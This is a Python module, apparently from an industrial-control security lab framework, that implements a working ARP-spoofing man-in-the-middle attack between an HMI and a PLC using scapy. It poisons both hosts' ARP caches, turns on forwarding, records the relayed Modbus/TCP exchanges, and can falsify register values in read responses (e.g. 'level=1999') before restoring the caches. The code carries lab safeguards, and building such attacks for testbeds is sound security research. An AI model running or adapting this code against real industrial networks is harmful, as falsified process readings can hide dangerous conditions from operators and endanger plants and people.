"""ARP-spoofing man in the middle between two hosts (an HMI and a PLC), with scapy.

Run inside the attacker host::

    python -m attacks.mitm --plan PLAN.json --targets 10.0.0.11,10.0.0.21 --out mitm.json \\
        [--duration-s 30] [--poison-interval-s 1] [--port 502] \\
        [--tamper level=1999] [--max-records 10000] [--max-forward-packets 200000] \\
        [--verify-s 1.5]

``--targets`` names exactly the two victims. The attack:

1. resolves both victims' MACs with one ARP request each (the real ones, not the plan's);
2. turns on ``ip_forward`` in its own namespace (with ICMP redirects off, or the kernel
   would tell the victims the shorter way) so the kernel forwards the victims' traffic;
3. poisons both ARP caches every ``--poison-interval-s`` until ``--duration-s``: to each
   victim, a unicast gratuitous-form ARP reply "the other victim is at my MAC". Linux
   ignores an ordinary reply that changes a cache entry updated less than ``locktime`` (1 s)
   ago, but always applies a gratuitous one (sender IP = target IP, sender MAC = target MAC);
   the Ethernet source is always the attacker's own MAC, so the switch's MAC learning is
   not disturbed;
4. records every Modbus/TCP request and response it relays (function, unit, address,
   count, values, request time, latency), matched by transaction id;
5. with ``--tamper REGISTER=VALUE``, rewrites the value of one register (or coil/discrete
   input) in every read response that covers it. NFQUEUE is not available here, so the
   tampered direction (the server's replies: TCP source port ``--port``) is dropped in the
   kernel's FORWARD chain and forwarded by scapy instead: it sees each reply on its packet
   socket (before netfilter), rewrites the values in place (same length, so TCP sequence
   numbers stay right), fixes the checksums, decrements the TTL as a router would and sends
   it to the real MAC. The other direction stays in the kernel;
6. restores both caches with correct gratuitous-form replies (several rounds) and verifies:
   no frame between the victims may reach the attacker's MAC during ``--verify-s`` after
   the restoration (it keeps forwarding until then, so no packet is lost);
7. undoes its host changes (FORWARD rules, ``ip_forward``, ``send_redirects``) and checks
   the host against a snapshot taken first. All of 6 and 7 also run on SIGTERM/SIGINT.

What it cannot do: tamper a response split over several TCP segments (counted as
``skipped_segmented``), change a value's length, or verify the restoration when the victims
do not talk to each other during ``--verify-s`` (no traffic looks like restored traffic).
"""

from __future__ import annotations

import argparse
import logging
import time
from collections.abc import Sequence
from dataclasses import asdict
from typing import Any

from attacks.arp_poison import Victim, claim_frame, resolve_mac
from attacks.bounds import Bound, check_bounds
from attacks.mitm_relay import MitmOutcome, Relay
from attacks.mitm_tamper import parse_tamper
from common.cli import int_in, positive_float
from common.errors import UserError
from common.hostenv import AttackContext, attack_parser, run_attack, utc_now_iso
from common.modbus import MODBUS_PORT
from common.netstate import IP_FORWARD, HostChanges, LocalInterface, local_interface
from common.plan import AddressPlan

log = logging.getLogger(__name__)

DEFAULT_DURATION_S = 30.0
DEFAULT_POISON_INTERVAL_S = 1.0
MIN_POISON_INTERVAL_S = 0.1
MAX_DURATION_S = 3600.0
DEFAULT_MAX_RECORDS = 10000
DEFAULT_MAX_FORWARD_PACKETS = 200000
DEFAULT_VERIFY_S = 1.5
MAX_VERIFY_S = 30.0
RESTORE_ROUNDS = 3
RESTORE_REPEATS = 3
RESTORE_GAP_S = 0.2
RESTORE_SETTLE_S = 0.3


class Mitm:
    """One run: poison, relay, restore, verify; owns the L2 socket used for ARP."""

    def __init__(self, ctx: AttackContext, iface: LocalInterface, a: Victim, b: Victim,
                 relay: Relay) -> None:
        self.ctx = ctx
        self.iface = iface
        self.a, self.b = a, b
        self.relay = relay
        self.outcome = ctx.outcome
        assert isinstance(self.outcome, MitmOutcome)
        self._socket: Any = None

    def open(self) -> None:
        from scapy.config import conf

        self._socket = conf.L2socket(iface=self.iface.name)

    def close(self) -> None:
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def poison_once(self) -> None:
        """Tell each victim that the other one is at our MAC (two frames)."""
        self._socket.send(claim_frame(self.iface, self.a, self.b.ip, self.iface.mac))
        self._socket.send(claim_frame(self.iface, self.b, self.a.ip, self.iface.mac))
        self.outcome.arp_poison_sent += 2
        self.outcome.poison_rounds += 1

    def poison_loop(self, duration_s: float, interval_s: float) -> None:
        """Poison every ``interval_s`` until ``duration_s`` from the start (or a limit)."""
        next_s = self.ctx.elapsed_s()
        while self.ctx.elapsed_s() < duration_s and not self.relay.limit_reached.is_set():
            now_s = self.ctx.elapsed_s()
            if now_s >= next_s:
                self.poison_once()
                next_s = now_s + interval_s
            time.sleep(max(0.0, min(next_s, duration_s) - self.ctx.elapsed_s()))
        if self.relay.limit_reached.is_set():
            self.outcome.errors.append(
                f"--max-forward-packets {self.relay.max_forward_packets} reached: stopped early")

    def restore(self, verify_s: float) -> dict[str, Any]:
        """Send the true mappings until no victim frame reaches us for ``verify_s``."""
        self.relay.tamper_active = False
        report: dict[str, Any] = {"verified": False, "rounds": 0, "arp_sent": 0,
                                  "frames_after_restore": None}
        for round_no in range(1, RESTORE_ROUNDS + 1):
            report["rounds"] = round_no
            for _ in range(RESTORE_REPEATS):
                self._socket.send(claim_frame(self.iface, self.a, self.b.ip, self.b.mac))
                self._socket.send(claim_frame(self.iface, self.b, self.a.ip, self.a.mac))
                report["arp_sent"] += 2
                time.sleep(RESTORE_GAP_S)
            time.sleep(RESTORE_SETTLE_S)
            before = self.relay.victim_frames
            time.sleep(verify_s)
            report["frames_after_restore"] = self.relay.victim_frames - before
            if report["frames_after_restore"] == 0:
                report["verified"] = True
                break
            log.warning("restore round %d: %d victim frame(s) still reached us", round_no,
                        report["frames_after_restore"])
        log.info("ARP caches restored: verified=%s after %d round(s)", report["verified"],
                 report["rounds"])
        return report


def _victims(ctx: AttackContext, iface: LocalInterface) -> tuple[Victim, Victim]:
    victims = []
    for ip in ctx.targets:
        spec = ctx.plan.by_ip(ip)
        mac = resolve_mac(iface, ip)
        if mac is None:
            raise RuntimeError(f"victim {ip} did not answer ARP: is it up?")
        plan_mac = spec.mac if spec else ""
        if plan_mac and plan_mac.lower() != mac.lower():
            log.warning("victim %s answers with %s, the plan says %s", ip, mac, plan_mac)
        victims.append(Victim(spec.name if spec else ip, ip, mac.lower(), plan_mac))
    return victims[0], victims[1]


def _body(ctx: AttackContext) -> None:
    args = ctx.args
    outcome = ctx.outcome
    assert isinstance(outcome, MitmOutcome)
    iface = local_interface(ctx.plan.network)
    outcome.attacker = {"interface": iface.name, "ip": iface.ip, "mac": iface.mac}
    if iface.ip in ctx.targets:
        raise UserError(f"--targets: {iface.ip} is this host's own address")
    a, b = _victims(ctx, iface)
    outcome.victims = [asdict(v) for v in (a, b)]
    spec = parse_tamper(args.tamper) if args.tamper else None
    if spec is not None:
        outcome.forwarding = "kernel; scapy for TCP from port " \
                             f"{args.port} (tampered direction)"
        outcome.tamper = {**asdict(spec), "responses_rewritten": 0, "skipped_segmented": 0}
    sysctls = (IP_FORWARD, "net/ipv4/conf/all/send_redirects",
               f"net/ipv4/conf/{iface.name}/send_redirects")
    changes = HostChanges(sysctls)
    relay = Relay(iface, a, b, args.port, spec, args.max_records, args.max_forward_packets,
                  ctx.elapsed_s, outcome)
    mitm = Mitm(ctx, iface, a, b, relay)
    poisoned = False
    try:
        changes.set_sysctl("net/ipv4/conf/all/send_redirects", "0")
        changes.set_sysctl(f"net/ipv4/conf/{iface.name}/send_redirects", "0")
        if spec is not None:
            for x, y in ((a, b), (b, a)):
                changes.iptables_insert("filter", "FORWARD", [
                    "-s", f"{x.ip}/32", "-d", f"{y.ip}/32", "-p", "tcp", "--sport",
                    str(args.port), "-j", "DROP"])
        changes.set_sysctl(IP_FORWARD, "1")
        relay.start()
        mitm.open()
        poisoned = True
        log.info("poisoning %s <-> %s every %g s for %g s", a.ip, b.ip, args.poison_interval_s,
                 args.duration_s)
        mitm.poison_loop(args.duration_s, args.poison_interval_s)
    finally:
        try:
            if poisoned:
                outcome.restore = mitm.restore(args.verify_s)
        finally:
            mitm.close()
            relay.stop()
            outcome.unanswered_requests = relay.tracker.unanswered()
            if outcome.tamper is not None:
                outcome.tamper["responses_rewritten"] = relay.rewritten
                outcome.tamper["skipped_segmented"] = relay.skipped_segmented
            outcome.host_changes = changes.descriptions
            differences = changes.restore()
            outcome.host_restored = changes.restored
            outcome.host_differences = differences + changes.errors
    log.info("mitm: %d Modbus exchange(s) relayed, restore verified: %s, host restored: %s",
             outcome.exchange_count, outcome.restore.get("verified"), outcome.host_restored)
    if outcome.host_differences:
        raise RuntimeError("the host's network state differs from before the run: "
                           + "; ".join(outcome.host_differences))
    if poisoned and not outcome.restore.get("verified"):
        raise RuntimeError("the victims' ARP caches could not be verified as restored")


# --- CLI --------------------------------------------------------------------------------
def _tamper_arg(text: str) -> str:
    """argparse type: a valid ``--tamper`` text, kept as text (the outcome records it)."""
    try:
        parse_tamper(text)
        return text
    except UserError as exc:
        raise argparse.ArgumentTypeError(str(exc).removeprefix("--tamper ")) from None


def build_parser() -> argparse.ArgumentParser:
    """The mitm command line (see the module docstring)."""
    parser = attack_parser("attacks.mitm",
                           "ARP-spoofing man in the middle between two hosts (HMI and PLC).")
    parser.add_argument("--duration-s", type=positive_float, default=DEFAULT_DURATION_S,
                        help=f"how long to poison (at most {MAX_DURATION_S:g})")
    parser.add_argument("--poison-interval-s", type=positive_float,
                        default=DEFAULT_POISON_INTERVAL_S,
                        help=f"seconds between poison rounds (at least {MIN_POISON_INTERVAL_S:g})")
    parser.add_argument("--port", type=int_in(1, 65535), default=MODBUS_PORT,
                        help="the Modbus/TCP server port (default 502)")
    parser.add_argument("--tamper", type=_tamper_arg, default=None, metavar="REGISTER=VALUE",
                        help="falsify one value in read responses: NAME, PROCESS.NAME or "
                             "TABLE:ADDRESS = raw value (e.g. level=1999)")
    parser.add_argument("--max-records", type=int_in(0, 10**6), default=DEFAULT_MAX_RECORDS,
                        help="exchanges kept in the outcome (all are counted)")
    parser.add_argument("--max-forward-packets", type=int_in(1, 10**7),
                        default=DEFAULT_MAX_FORWARD_PACKETS,
                        help="packets scapy may forward in tamper mode; the run ends there")
    parser.add_argument("--verify-s", type=positive_float, default=DEFAULT_VERIFY_S,
                        help="quiet time that proves the caches are restored")
    return parser


def _validate(args: argparse.Namespace) -> None:
    check_bounds(args, (Bound("--duration-s", at_most=MAX_DURATION_S),
                       Bound("--poison-interval-s", at_least=MIN_POISON_INTERVAL_S),
                       Bound("--verify-s", at_most=MAX_VERIFY_S)))
    items = [t.strip() for t in args.targets.split(",")]
    if len(items) != 2 or "/" in args.targets or items[0] == items[1]:
        raise UserError("--targets: exactly two different addresses (the two victims)")
    attacker = AddressPlan.load(args.plan).attacker  # run_attack has validated the plan
    if attacker is not None and attacker.ip in items:
        raise UserError(f"--targets: {attacker.ip} is the attacker itself")


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> MitmOutcome:
    return MitmOutcome(attack="mitm", parameters={}, targets=list(targets),
                       started_at=utc_now_iso())


def main(argv: Sequence[str] | None = None) -> int:
    """Run the MITM; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())

